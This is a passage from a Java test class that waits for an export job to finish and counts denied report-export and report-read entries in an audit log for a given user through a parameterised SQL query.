                .pollInterval(Duration.ofMillis(100))
                .until(
                        () -> exports.recent().stream()
                                .filter(j -> j.id() == id)
                                .findFirst()
                                .orElseThrow(),
                        job -> job.status() != ExportJob.Status.RUNNING);
    }

    int deniedExports() {
        return deniedExports(alice.email());
    }

    int deniedExports(String actor) {
        return jdbc.sql(
                        "select count(*) from audit_log where outcome = 'DENIED' and action in ('report.export', 'report.read') and actor = ?")
                .param(actor)
                .query(Integer.class)
                .single();
    }
}
